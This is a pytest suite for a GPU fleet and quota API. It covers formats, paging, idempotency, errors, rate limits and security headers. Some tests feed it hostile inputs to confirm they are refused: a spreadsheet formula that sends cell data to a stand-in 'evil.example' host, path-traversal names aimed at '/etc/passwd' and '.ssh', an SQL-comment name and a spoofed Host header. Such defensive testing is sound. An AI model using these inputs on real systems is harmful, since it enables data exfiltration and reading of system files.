"""How the API behaves whatever is asked: forms, tags, pages of a list, the past, changes, keys, errors, limits."""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml

from plimsoll.quota.policy import DEFAULT_TEXT
from plimsoll.rooms import open_keeper
from plimsoll.server import api as api_module
from plimsoll.server.guard import Buckets
from plimsoll.server.routes import ROUTES
from tests.support.inside import called
from tests.support.served import TEAM, Reply, Served, make_people, serving, small_book

WORK = f"""\
workload: run-2
team: {TEAM}
where: {{sku: H200}}
parts:
  - {{name: a, kind: gang, gpus: 8, tier: mid, rank: 1}}
"""
CAMPAIGN = """\
campaign: nic
changes: [{component: nic, version: "2"}]
scope: {cluster: lion}
start: 2099-01-01
deadline: 2099-01-09
window: {hours: [0, 24], tz: Etc/UTC}
work: [{mode: whole, hours: 4}]
"""


@pytest.fixture
def own(tmp_path: Any) -> Iterator[Served]:
    """A server of the test's own."""
    dsn = small_book(tmp_path)
    with serving(dsn, make_people(dsn)) as server:
        yield server


# Reading.


def test_one_answer_has_every_form(served: Served) -> None:
    nodes = served.api("/nodes").document["nodes"]
    assert len(nodes) == 16
    rows = list(csv.DictReader(io.StringIO(served.api("/nodes?format=csv").body.decode())))
    assert [row["node"] for row in rows] == [node["node"] for node in nodes]
    assert yaml.safe_load(served.api("/nodes", Accept="application/yaml").body)["nodes"] == nodes
    whole = served.api("/nodes", Accept="application/vnd.plimsoll.answer+json").document
    assert whole["document"]["nodes"] == nodes
    assert len(whole["tables"][0]["rows"]) == 16
    assert served.api("/nodes?format=xml").error["code"] == "bad_format"
    assert served.api("/health?format=csv").headers["content-type"].startswith("text/csv")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'


def test_a_table_never_acts_in_a_sheet(own: Served) -> None:
    asked = own.post("/requests", {"team": TEAM, "gpus": "8", "sku": "H200"}).document["request"]["id"]
    assert own.post(f"/requests/{asked}/withdraw", {"reason": FORMULA}, who="member").status == 200
    rows = list(csv.reader(io.StringIO(own.api("/requests?all=true&format=csv").body.decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith("=")]
    assert FORMULA in json.dumps(own.api("/requests?all=true").document).replace("\\", ""), "elsewhere it is as written"


def test_a_tag_saves_the_way(served: Served) -> None:
    first = served.api("/quota")
    again = served.api("/quota", If_None_Match=first.headers["etag"])
    assert (first.status, again.status, again.body) == (200, 304, b"")
    other = served.api("/quota?team=" + TEAM, If_None_Match=first.headers["etag"])
    assert other.status == 200


def test_the_whole_answer_is_as_a_terminal_asks_for_it(served: Served) -> None:
    """Everybody else gets what `-o json` is made of."""
    kind = "application/vnd.plimsoll.answer+json"
    for accept, want in ((kind, "stage"), (f"{kind}; output=table", "stage"), (f"{kind};output=csv", "team")):
        assert served.api("/quota/plan", Accept=accept).document["tables"][0]["columns"][0] == want
    assert served.api("/quota", Accept=f"{kind}; output=png").error["code"] == "bad_format"
    assert served.api("/quota/report?days=30", Accept=f"{kind}; output=html").document["text"].startswith("<!doctype")


KNOWN: dict[str, tuple[str, int]] = {
    "the tag": ("{tag}", 304),
    "one of several": ('"x", {tag}', 304),
    "a tag that a proxy has weakened": ("W/{tag}", 304),
    "one of several that it has weakened": ('W/"x",W/{tag}', 304),
    "whatever there is": ("*", 304),
    "the tag of something else": ('"x"', 200),
    "the tag of something else, weakened": ('W/"x"', 200),
}


@pytest.mark.parametrize("case", KNOWN)
def test_what_somebody_has_is_not_sent_again(served: Served, case: str) -> None:
    named, want = KNOWN[case]
    tag = served.api("/quota").headers["etag"]
    reply = served.api("/quota", If_None_Match=named.format(tag=tag))
    assert (reply.status, bool(reply.body)) == (want, want == 200)


def test_filters_are_those_of_the_command_line(served: Served) -> None:
    path = f"/nodes?filter={quote('cluster=lion')}&filter={quote('service=in_service')}"
    assert {node["cluster"] for node in served.api(path).document["nodes"]} == {"lion"}
    reply = served.api(f"/nodes?filter={quote('clutser=lion')}")
    assert (reply.status, reply.error["code"]) == (400, "unknown_field")


def test_pages_of_a_list_are_all_of_one_revision(own: Served) -> None:
    seen: list[str] = []
    path = "/nodes?limit=5"
    for page in range(4):
        reply = own.api(path)
        seen += [node["node"] for node in reply.document["nodes"]]
        link = reply.headers.get("link", "")
        if page == 0:  # what happens meanwhile is not seen in the middle of a list
            own.post("/health/set", {"words": ["t12", "repair"], "reason": "it smokes"})
            path = link[1 : link.index(">")].removeprefix("/api/v1")
            continue
        if not link:
            break
        path = link[1 : link.index(">")].removeprefix("/api/v1")
    assert (len(seen), len(set(seen))) == (16, 16)
    assert 'rel="next"' not in link
    assert own.api("/nodes?cursor=1.x").error["code"] == "bad_cursor"


NAMES = ("post/train", "a b", "50%41", "équipe", "команда/a?b", "<b>x")


@pytest.mark.parametrize("name", NAMES)
def test_the_next_page_of_something_with_an_odd_name_is_found(own: Served, name: str) -> None:
    assert own.post("/teams/pretraining/rename", {"new": name, "reason": "x"}).status == 200
    asked = f"/teams/{quote(name, safe='')}/changes?limit=1&at_least={own.house.api.head}"
    seen = 0
    while asked:
        reply = own.api(asked)
        assert reply.status == 200
        seen += len(reply.document["changes"])
        link = reply.headers.get("link", "")
        asked = link[1 : link.index(">")].removeprefix("/api/v1") if link else ""
    assert seen == len(own.api(f"/teams/{quote(name, safe='')}/changes").document["changes"]) > 1


def test_whoever_must_sign_in_first_comes_to_what_they_asked_for(served: Served) -> None:
    reply = served.ask("/teams/post%2Ftrain?limit=5", Accept="text/html")
    assert (reply.status, reply.headers["location"]) == (303, "/signin?next=%2Fteams%2Fpost%252Ftrain%3Flimit%3D5")


def test_the_past_is_answered_for(own: Served) -> None:
    before = own.api("/fleet")
    own.post("/health/set", {"words": ["t1", "repair"], "reason": "it smokes"})
    after = own.api(f"/fleet?at_least={own.house.api.head}")
    past = own.api(f"/fleet?as_of={before.document['revision']}")
    assert after.document["totals"]["nodes_in_service"] == before.document["totals"]["nodes_in_service"] - 1
    assert past.document["totals"] == before.document["totals"]
    reply = own.api("/fleet?as_of=99999")
    assert (reply.status, reply.error["code"]) == (404, "no_such_revision")


def test_whoever_changed_something_sees_it(own: Served) -> None:
    """Answers may be given again for a moment; never to somebody who names a newer revision."""
    own.api("/incidents")
    made = own.post("/incidents", {"title": "smoke", "id": "i-9"})
    revision = made.headers["plimsoll-revision"]
    assert "i-9" in own.api("/incidents").body.decode(), "its own change is seen at once"
    assert "i-9" in json.dumps(own.api(f"/incidents?at_least={revision}", who="viewer").document)


def test_many_who_ask_the_same_are_answered_once(own: Served) -> None:
    made = own.house.shelf.counts.misses
    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda _: own.api("/quota"), range(24)))
    assert {reply.status for reply in replies} == {200}
    assert len({reply.body for reply in replies}) == 1
    assert own.house.shelf.counts.misses - made == 1


def test_what_is_about_oneself_is_never_told_to_another(served: Served) -> None:
    told = {who: served.api("/whoami", who=who).body for who in ("viewer", "operator", "viewer", "partner")}
    assert all(f"{who}@example.org".encode() in body for who, body in told.items())


def test_a_name_may_hold_anything(served: Served) -> None:
    for name in ("a/b", "../..", "ü", "a b", "?#", "%2F", "'; --"):
        reply = served.api(f"/workloads/{quote(name, safe='')}")
        assert (reply.status, reply.error["code"]) == (404, "no_such_workload"), name
        assert name in reply.error["message"]


# Changing.


def test_a_dry_run_decides_and_changes_nothing(own: Served) -> None:
    before = own.house.api.head
    body = {"team": TEAM, "gpus": "8", "sku": "H200", "dry_run": True}
    reply = own.post("/requests", body, who="member")
    assert reply.status == 200
    assert reply.document["dry_run"] is True
    assert own.api("/audit/head").document["revision"] == before


def test_a_change_is_by_whoever_sent_it(own: Served) -> None:
    own.post("/requests", {"team": TEAM, "gpus": "8", "sku": "H200", "reason": "a run"}, who="member")
    event = own.api("/events?limit=1").document["events"][0]
    assert (event["actor"], event["reason"]) == ("member@example.org", "a run")


def test_the_same_key_is_the_same_change(own: Served) -> None:
    body = {"title": "smoke"}
    first = own.post("/incidents", body, Idempotency_Key="k-1")
    head = own.house.api.head
    again = own.post("/incidents", body, Idempotency_Key="k-1")
    assert (again.status, again.body) == (first.status, first.body)
    assert again.headers["idempotency-replayed"] == "true"
    assert own.api("/audit/head?at_least=1").document["revision"] == head
    other = own.post("/incidents", {"title": "fire"}, Idempotency_Key="k-1")
    assert (other.status, other.error["code"]) == (422, "idempotency_key_reused")
    elsewhere = own.post("/incidents", {"title": "fire"}, who="operator", Idempotency_Key="k-1")
    assert elsewhere.status == 200, "keys of two people are two keys"


def test_what_is_told_again_ends_as_it_did_at_first(own: Served) -> None:
    """Four nodes of lion at once, where one may be out: there is no plan, and a terminal would end with 1."""
    sent = {"file": f"{CAMPAIGN}limits: [{{kind: out_at_once, unit: nodes, at_most: 1}}]\n", "seconds": 5}
    first, again = (own.post("/campaigns/plan", sent, Idempotency_Key="k-8") for _ in range(2))
    assert again.headers["idempotency-replayed"] == "true"
    assert (first.headers["plimsoll-exit-code"], again.headers["plimsoll-exit-code"]) == ("1", "1")


def test_a_secret_is_told_once_and_kept_nowhere(own: Served) -> None:
    body = {"owner": "viewer@example.org", "for": "1d"}
    first = own.post("/access/tokens", body, Idempotency_Key="k-7")
    again = own.post("/access/tokens", body, Idempotency_Key="k-7")
    secret = first.document["secret"]
    assert (first.status, again.status) == (200, 200)
    assert secret.encode() not in again.body
    with open_keeper(own.house.settings.dsn) as keeper:
        assert not any(
            secret in paper.body for kind in ("receipt", "token") for paper in keeper.ledger.store.papers(kind)
        )


def test_a_refused_change_frees_its_key(own: Served) -> None:
    refused = own.post("/incidents/nobody-knows-it/note", {"note": "smoke"}, Idempotency_Key="k-2")
    assert refused.status == 404
    made = own.post("/incidents", {"title": "smoke", "id": "smoke"}, Idempotency_Key="k-2")
    assert (made.status, "idempotency-replayed" in made.headers) == (200, False), made
    assert own.api(f"/incidents/smoke?at_least={own.house.api.head}").status == 200


def test_the_same_key_at_once_happens_once(own: Served) -> None:
    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda _: own.post("/incidents", {"title": "one"}, Idempotency_Key="k-3"), range(16)))
    assert {reply.status for reply in replies} <= {200, 409}
    assert len(own.api(f"/incidents?at_least={own.house.api.head}").document) == 1


@pytest.mark.parametrize("key", ["", "x" * 201, "a\tb", "ümlaut"])
def test_a_key_that_is_none_is_refused(served: Served, key: str) -> None:
    reply = served.post("/quota/settle", {}, Idempotency_Key=key.encode().decode("latin-1"))
    assert (reply.status, reply.error["code"]) == (400, "bad_idempotency_key")


def test_files_are_sent_as_texts(own: Served) -> None:
    parts = "  - {name: a, kind: gang, gpus: 8, tier: mid, rank: 1}"
    text = f"workload: sent\nteam: {TEAM}\nwhere: {{sku: H200}}\nparts:\n{parts}\n"
    reply = own.post("/workloads", {"files": [text]}, who="member")
    assert reply.status == 200, reply
    assert own.api("/workloads/sent").status == 200
    made = own.api("/fleet/export").document["files"]
    assert set(made) >= {"clusters.csv", "nodes.csv", "quotas.csv"}
    back = own.post("/fleet/import", {"files": made, "dry_run": True})
    assert back.document["counts"]["nodes"]["same"] == 16
    sheet = base64.b64encode(b"cluster,region\n").decode()
    assert own.post("/clusters/import", {"file": sheet, "dry_run": True}).status in (200, 400, 422)


@pytest.mark.parametrize("path", [route.path for route in ROUTES if route.sent and route.method == "POST"])
def test_no_place_of_the_machine_is_told(served: Served, path: str) -> None:
    route = next(each for each in ROUTES if each.path == path and each.method == "POST")
    sent: dict[str, Any] = {"files": ["]["]} if "files" in route.sent else {"file": "][", "plan_file": "]["}
    sent = {"files": {"clusters.csv": "x", "nodes.csv": "y"}} if "import" in path and "fleet" in path else sent
    for body in (sent, {key: value for key, value in sent.items() if key != "plan_file"}):
        reply = served.post(path.replace("{name}", "x"), body)
        assert b"/tmp" not in reply.body, reply.body
        assert reply.status != 500


NAMELESS: dict[str, tuple[str, dict[str, Any], str]] = {
    # a route, what it is sent, and how a mistake in it is told
    "one file": ("/quota/policy/check", {"file": "a: 1\n]["}, "the file, line 2: not YAML"),
    "one file by its name": ("/quota/policy/check", {"file": {"ours.yaml": "a: 1\n]["}}, "ours.yaml, line 2: not YAML"),
    "the second of a list": ("/workloads", {"files": [WORK, "a: 1\n]["]}, "files[1], line 2: not YAML"),
    "a list of one": ("/workloads", {"files": "]["}, "files[0], line 1: not YAML"),
    "several by their names": ("/workloads", {"files": {"a.yaml": WORK, "b.yaml": "]["}}, "b.yaml, line 1: not YAML"),
    "a sheet": ("/clusters/import", {"file": base64.b64encode(b"a\n").decode()}, "the file.csv row 1 column"),
    "a workbook": ("/clusters/import", {"file": base64.b64encode(b"PK").decode()}, "the file.xlsx is not a whole"),
    "a sheet by its name": ("/clusters/import", {"file": {"our.csv": "YQo="}}, "our.csv row 1 column"),
    "another file beside it": ("/campaigns/check", {"file": CAMPAIGN, "plan_file": "]["}, "the plan file"),
    "a policy instead of a word": ("/quota/apply", {"policy": "a: 1\n]["}, "the policy, line 2: not YAML"),
}


@pytest.mark.parametrize("case", NAMELESS)
def test_a_mistake_in_what_is_sent_is_told_by_a_name_that_its_sender_knows(served: Served, case: str) -> None:
    path, sent, want = NAMELESS[case]
    reply = served.post(path, sent)
    assert reply.status in (400, 422)
    assert want in reply.error["message"]
    assert "sent" not in reply.error["next_step"]


def test_a_workbook_is_sent_as_its_bytes(own: Served, tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    assert called("fleet", "export", book, "--db", own.house.settings.dsn).code == 0
    sent = {"files": {"book.xlsx": base64.b64encode(book.read_bytes()).decode()}, "dry_run": True}
    assert own.post("/fleet/import", sent).document["counts"]["nodes"]["same"] == 16


def test_a_policy_is_sent_as_its_text(served: Served) -> None:
    """Under a line of nothing at all nobody keeps a GPU; 112 of tiger's are assigned, and 16 of lion's."""
    text = DEFAULT_TEXT.replace("0.15", "0.99")
    summary = served.api(f"/quota/plan?policy={quote(text)}").document["summary"]
    assert (summary["assigned"], summary["guaranteed"]) == (128, 0)
    paths = served.ask("/api/v1/openapi.json").document["paths"]
    for path in (
        "/quota",
        "/quota/plan",
        "/quota/report",
        "/quota/rollout",
        "/quota/notices",
        "/quota/pilot/{cluster}",
    ):
        said = next(each for each in paths[f"/api/v1{path}"]["get"]["parameters"] if each["name"] == "policy")
        assert said["description"].endswith("Of a file: its text.")
    reply = served.api(f"/quota/plan?policy={quote('policy: x' + chr(10) + '#' * 4_000)}")
    assert (reply.status, reply.error["code"]) == (400, "bad_parameter")
    assert "at most 4,000" in reply.error["message"]


def test_a_plan_of_a_file_is_not_made_to_be_compared(served: Served) -> None:
    reply = served.api("/campaigns/compare?left=nic.yaml&right=nic:1")
    assert (reply.status, reply.error["code"]) == (404, "no_such_campaign")
    assert "a server compares recorded plans, and no files" in reply.error["message"]


HOSTILE_FILES = {
    "a path": {"files": {"../../etc/passwd": "x"}},
    "a folder in a folder": {"files": {"a/b.csv": "x"}},
    "a hidden file": {"files": {".ssh": "x"}},
    "no files": {"files": {}},
    "a text for a folder": {"files": "clusters.csv"},
    "a number for a file's text": {"files": {"clusters.csv": 7}},
    "too many files": {"files": {f"f{number}.csv": "" for number in range(51)}},
    "a workbook as a text": {"files": {"book.xlsx": "a text"}},
}
HOSTILE_NAMES: dict[str, tuple[str, object]] = {
    "a path": ("/quota/policy/check", {"../../x": "x"}),
    "a file elsewhere": ("/quota/policy/check", {"/etc/passwd": "x"}),
    "no name": ("/quota/policy/check", {"": "x"}),
    "two files for one": ("/quota/policy/check", {"a": "x", "b": "y"}),
    "no file": ("/quota/policy/check", {}),
    "a number": ("/quota/policy/check", {"a": 7}),
    "a sheet elsewhere": ("/clusters/import", {"../x.csv": "YQo="}),
    "a sheet as a text": ("/clusters/import", {"x.csv": "a text"}),
}


@pytest.mark.parametrize("case", HOSTILE_NAMES)
def test_a_file_has_a_plain_name_or_none(served: Served, case: str) -> None:
    path, file = HOSTILE_NAMES[case]
    reply = served.post(path, {"file": file})
    assert (reply.status, reply.error["code"]) == (400, "bad_parameter")


@pytest.mark.parametrize("case", HOSTILE_FILES)
def test_a_folder_holds_plain_files_only(served: Served, case: str) -> None:
    reply = served.post("/fleet/import", HOSTILE_FILES[case])
    assert (reply.status, reply.error["code"]) == (400, "bad_parameter")


@pytest.mark.parametrize("word", ["/etc/passwd", "../policy.yaml", "plimsoll.db", "policy.yml", "."])
def test_no_file_of_the_machine_can_be_named(served: Served, word: str) -> None:
    for path in (f"/quota/plan?policy={quote(word, safe='')}", f"/campaigns/compare?left={quote(word)}&right=x"):
        reply = served.api(path)
        assert reply.status in (400, 404, 422), reply
        assert "root:" not in reply.body.decode()
    assert served.post("/health/policy/check", {"file": word}).status in (400, 422)


# What is wrong.

WRONG = {
    "nothing there": ("GET", "/nope", None, {}, 404, "no_such_path"),
    "another method": ("POST", "/fleet", {}, {}, 405, "method_not_allowed"),
    "a parameter that is not": ("GET", "/fleet?bye=area", None, {}, 400, "unknown_parameter"),
    "a parameter twice": ("GET", "/fleet?by=area&by=sku", None, {}, 400, "bad_parameter"),
    "a word for a number": ("GET", "/events?limit=many", None, {}, 400, "bad_parameter"),
    "too much of a number": ("GET", "/events?limit=1001", None, {}, 400, "bad_parameter"),
    "a word that is none of them": ("GET", "/fleet?by=colour", None, {}, 400, "bad_parameter"),
    "something needed is missing": ("POST", "/requests", {"team": TEAM}, {}, 400, "missing_parameter"),
    "values in the address": ("POST", "/quota/settle?dry_run=true", {}, {}, 400, "unknown_parameter"),
    "no JSON": ("POST", "/quota/settle", b"{", {}, 400, "bad_json"),
    "a list": ("POST", "/quota/settle", b"[]", {}, 400, "bad_json"),
    "deep as a well": ("POST", "/quota/settle", b"[" * 100_000, {}, 400, "bad_json"),
    "a form": ("POST", "/quota/settle", b"a=b", {"Content_Type": "application/x-www-form-urlencoded"}, 415, "not_json"),
    "a name that does not exist": ("GET", "/workloads/nobody", None, {}, 404, "no_such_workload"),
    "a token that is wrong": ("GET", "/fleet", None, {"Authorization": "Bearer plim_x_y"}, 401, "bad_token"),
    "no token at all": ("GET", "/fleet", None, {"Authorization": "Basic eDp5"}, 401, "bad_authorization"),
    "a null byte": ("GET", "/workloads/a%00b", None, {}, 400, "bad_parameter"),
}  # fmt: skip


@pytest.mark.parametrize("case", WRONG)
def test_what_is_wrong_is_told_in_one_shape(served: Served, case: str) -> None:
    method, path, send, headers, want_status, want_code = WRONG[case]
    reply = served.api(path, method=method, send=send, **headers)
    assert (reply.status, reply.error["code"]) == (want_status, want_code)
    assert set(reply.error) == {"code", "message", "next_step", "fields"}
    assert reply.error["message"]
    assert reply.headers["x-request-id"]
    if want_status == 405:
        assert reply.headers["allow"] == "GET, HEAD"


@pytest.mark.parametrize("limit", [0, 2_000])
def test_the_whole_log_at_once_is_refused_with_the_way_to_it(served: Served, limit: int) -> None:
    error = served.api(f"/events?limit={limit}").error
    assert (error["code"], "Link" in error["next_step"]) == ("bad_parameter", True)


def test_a_body_that_is_too_big_is_not_read(served: Served) -> None:
    reply = served.post("/quota/settle", b" " * (api_module.BODY_BYTES_MAX + 1))
    assert (reply.status, reply.error["code"]) == (413, "body_too_big")


def test_one_who_asks_too_often_waits(tmp_path: Any) -> None:
    dsn = small_book(tmp_path)
    with serving(dsn, make_people(dsn), requests_per_second=5.0) as server:
        replies = [server.api("/fleet", who="viewer") for _ in range(14)]
        refused = [reply for reply in replies if reply.status == 429]
        assert 2 <= len(refused) <= 4
        assert int(refused[0].headers["retry-after"]) >= 1
        assert server.api("/fleet", who="member").status == 200, "others are not held up"


def test_a_mistake_of_ours_shows_nothing_of_the_inside(own: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise KeyError("a secret path")

    operation = next(each for each in own.house.api.operations if each.route.path == "/audit/head")
    monkeypatch.setattr(operation, "call", broken)
    reply = own.api("/audit/head")
    assert (reply.status, reply.error["code"]) == (500, "unexpected")
    assert b"secret" not in reply.body
    assert reply.error["fields"]["request_id"] == reply.headers["x-request-id"]
    assert own.api("/fleet").status == 200


# How it is guarded.


def test_every_answer_has_its_guards(served: Served) -> None:
    for path in ("/", "/api/v1/fleet", "/healthz", "/nope", "/static/app.css"):
        headers = served.ask(path, who="viewer", Accept="text/html").headers
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_a_name_of_somebody_else_that_leads_here_is_not_answered(served: Served) -> None:
    for path in ("/", "/api/v1/whoami", "/static/app.css"):
        assert served.ask(path, Host="evil.example").status == 404
        assert served.ask(path, Host=f"localhost:{served.house.settings.port}", Accept="text/html").status in (200, 303)
    assert served.ask("/healthz", Host="10.0.0.5:8077").status == 200, "a probe asks an address"


def test_a_revoked_token_ends_soon(own: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    tokens = own.api("/access/tokens").document
    listed = tokens if isinstance(tokens, list) else tokens["tokens"]
    mine = next(each for each in listed if each["owner"] == "viewer@example.org")
    assert own.api("/fleet", who="viewer").status == 200
    assert own.post(f"/access/tokens/{mine['token'] if 'token' in mine else mine['id']}/revoke").status == 200
    assert own.api("/fleet", who="viewer").status == 401


def test_who_guesses_tokens_waits(own: Served) -> None:
    own.house.guard.unknown = Buckets(0.001, burst_seconds=5_000)  # five, and the next one after a quarter of an hour
    tokens = [f"plim_{number:012d}_x" for number in range(8)]
    statuses = [own.ask("/api/v1/fleet", Authorization=f"Bearer {token}").status for token in tokens]
    assert statuses == [401] * 5 + [429] * 3


def test_health_and_readiness_are_open(served: Served) -> None:
    assert served.ask("/healthz").document == {"status": "ok"}
    ready = served.ask("/readyz")
    assert (ready.status, ready.document["status"]) == (200, "ready")


def test_signals_come_in(own: Served) -> None:
    lines = b'{"node": "t3", "kind": "xid", "name": "79"}\n{"node": "nobody", "kind": "xid", "name": "79"}\n'
    reply = own.ask("/api/v1/signals?feed=dcgm", who="operator", method="POST", send=lines)
    assert reply.status == 200
    assert (reply.document["feed"], reply.document["taken"]) == ("dcgm", 1)
    assert own.api(f"/nodes/t3?at_least={own.house.api.head}").document["facts"]["health"] == "unhealthy"
    began = time.monotonic()
    assert own.ask("/api/v1/signals", who="operator", method="POST", send=b"nonsense").status == 400
    assert time.monotonic() - began < 5


PICKED = {
    "without a word what a terminal puts into a file": ("/quota/plan?format=csv", "team,cluster,sku,assigned,"),
    "the first of what people see": ("/quota/plan?format=csv&table=stages", "stage,pools,what_it_takes"),
    "without a word again": ("/quota/plan?format=csv", "team,cluster,sku,assigned,"),
    "by its name": ("/quota/plan?format=csv&table=teams", "team,cut,unscheduled,idle,running,"),
    "another of the same answer": ("/quota/plan?format=csv&table=quotas", "team,cluster,sku,assigned,"),
    "of a list": ("/quota?format=csv&table=teams", "team,clusters,assigned,guaranteed,"),
    "by its place, where it has no name": ("/incidents?format=csv&table=1", "incident,kind,"),
}


@pytest.mark.parametrize("case", PICKED)
def test_csv_is_of_the_table_that_is_named(served: Served, case: str) -> None:
    path, want = PICKED[case]
    reply = served.api(path)
    assert (reply.status, reply.headers["content-type"].split(";")[0]) == (200, "text/csv")
    assert reply.body.decode().startswith(want)


AS_AT_A_DATABASE = {
    "every team of a plan": ("/quota/plan", "quota plan"),
    "clusters that a filter means": ("/health?filter=cluster%3Dtiger", "health show cluster=tiger"),
    "one node": ("/nodes/t1", "health show t1"),
    "a no": ("/access/check?who=viewer@example.org&permission=operate", "access check viewer@example.org operate"),
    "policies side by side": ("/quota/compare?days=30", "quota compare --days 30"),
    "nodes with their labels": ("/nodes", "fleet nodes"),
    "every node on the map": ("/fleet/map", "fleet map"),
    "service levels": ("/health/levels", "health slo"),
    "outages": ("/health/outages", "health outages"),
    "rules of a policy": ("/health/policy", "health policy show"),
    "the end of the log": ("/audit/head", "audit head"),
    "a team's notices": (f"/quota/notices?team={TEAM}", f"quota notices {TEAM}"),
}


@pytest.mark.parametrize("case", AS_AT_A_DATABASE)
def test_csv_is_what_a_terminal_puts_into_a_file(served: Served, case: str) -> None:
    path, words = AS_AT_A_DATABASE[case]
    served.api(path)  # what people see is another answer, on another place of the shelf
    reply = served.api(f"{path}{'&' if '?' in path else '?'}format=csv")
    assert reply.body.decode() == called(*words.split(), "-o", "csv", "--db", served.house.settings.dsn).out


def test_csv_of_a_change_is_what_a_terminal_puts_into_a_file(served: Served) -> None:
    reply = served.post("/quota/apply?format=csv", {"without_notice": True, "reason": "x", "dry_run": True})
    words = "quota apply --without-notice --reason x --dry-run -o csv"
    assert reply.body.decode() == called(*words.split(), "--db", served.house.settings.dsn).out
    assert reply.body.decode().startswith("team,cluster,sku,assigned,")


def pages_of(served: Served, path: str) -> list[Reply]:
    """A list page by page, as its links lead."""
    found = []
    while path:
        found.append(served.api(path))
        assert found[-1].status == 200, found[-1]
        link = found[-1].headers.get("link", "")
        path = link[1 : link.index(">")].removeprefix("/api/v1") if link else ""
    return found


LISTS = {
    "nodes": ("/nodes", "nodes"),
    "outages": ("/health/outages", "outages"),
    "service levels": ("/health/levels", "groups"),
    "what a team held": (f"/teams/{TEAM}/changes", "changes"),
    "clusters": ("/fleet/clusters", "clusters"),
}


@pytest.mark.parametrize("case", LISTS)
def test_the_whole_answer_comes_page_by_page_as_json_does(own: Served, case: str) -> None:
    path, items = LISTS[case]
    for node in ("t1", "t2", "t3"):
        own.post("/health/set", {"words": [node, "repair"], "reason": "it smokes"})
        own.post("/health/set", {"words": [node, "in_service"], "reason": "it is well", "force": True})
    at = f"at_least={own.house.api.head}"
    whole = own.api(f"{path}?format=answer&{at}").document
    replies = pages_of(own, f"{path}?format=answer&limit=1&{at}")
    assert len(replies) == max(len(whole["document"][items]), len(whole["tables"][0]["rows"])) > 1
    assert [row for reply in replies for row in reply.document["document"][items]] == whole["document"][items]
    assert [row for reply in replies for row in reply.document["tables"][0]["rows"]] == whole["tables"][0]["rows"]


def test_a_table_that_is_named_comes_page_by_page(served: Served) -> None:
    for path in ("/quota?format=csv&table=teams", "/quota?format=csv&table=quotas&clusters=tiger", "/nodes?format=csv"):
        head, *rows = served.api(path).body.decode().splitlines()
        replies = [reply.body.decode().splitlines() for reply in pages_of(served, f"{path}&limit=1")]
        assert len(replies) == len(rows) > 1, path
        assert {reply[0] for reply in replies} == {head}
        assert [row for reply in replies for row in reply[1:]] == rows


NO_TABLES = {
    "a name that is none": (
        "/quota/plan?format=csv&table=team",
        "no_such_table",
        ["stages", "pools", "teams", "quotas"],
    ),
    "an answer without tables": ("/audit/head?format=csv&table=1", "no_such_table", []),
    "a place of one that has a name": ("/quota/plan?format=csv&table=1", "no_such_table", ["stages", "pools"]),
    "where no CSV is asked for": ("/quota/plan?table=teams", "bad_parameter", []),
    "where nothing is read": ("", "unknown_parameter", []),
}


@pytest.mark.parametrize("case", NO_TABLES)
def test_a_table_that_is_not_there_names_those_that_are(served: Served, case: str) -> None:
    path, want_code, want_names = NO_TABLES[case]
    reply = served.api(path) if path else served.post("/quota/control?format=csv&table=teams", {"dry_run": True})
    assert (reply.status, reply.error["code"]) == (400, want_code)
    assert all(name in reply.error["next_step"] for name in want_names)
    if want_code == "no_such_table":
        assert set(want_names) <= set(reply.error["fields"]["tables"])


def test_csv_has_every_row_that_a_terminal_leaves_out(served: Served) -> None:
    """Of each table of an answer: as many rows as the answer has, also of one that people are shown a part of."""
    for path in ("/quota/plan", "/quota", "/health", "/health/levels"):
        for place, table in enumerate(served.api(f"{path}?format=answer").document["tables"], 1):
            name = table["name"] or str(place)
            rows = served.api(f"{path}?format=csv&table={name}").body.decode().splitlines()
            assert len(rows) == 1 + len(table["rows"]), (path, name)
